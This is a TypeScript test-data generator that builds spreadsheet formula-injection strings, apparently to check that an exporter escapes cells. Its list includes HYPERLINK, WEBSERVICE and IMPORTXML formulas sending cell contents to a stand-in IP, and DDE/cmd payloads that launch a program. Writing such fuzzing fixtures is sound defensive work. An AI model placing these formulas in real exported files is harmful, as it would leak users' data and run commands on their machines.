import type { Random } from '../../server/src/testing/random.js'

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u3000=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  '=-+',
]
const bodies = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://192.0.2.1/?"&A1,"Click")',
  'WEBSERVICE("http://192.0.2.1/")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
  '12025550143',
  '"",=1+1',
  '1\n=1+1',
  '1\r\n"=1+1"',
]

/** Texts that a spreadsheet would like to evaluate, each beginning with each body first, then strung together at random. */
export const hostileTexts = (random: Random, count: number): readonly string[] => {
  const all = beginnings.flatMap((beginning) => bodies.map((body) => `${beginning}${body}`))
  const more = Array.from({ length: Math.max(0, count - all.length) }, () =>
    Array.from({ length: 1 + Math.floor(random.next() * 3) }, () => random.pick(beginnings) + random.pick(bodies)).join(
      random.pick(['', ',', '\n', '\r\n', '"', ' ', ';']),
    ),
  )
  return [...all, ...more]
}
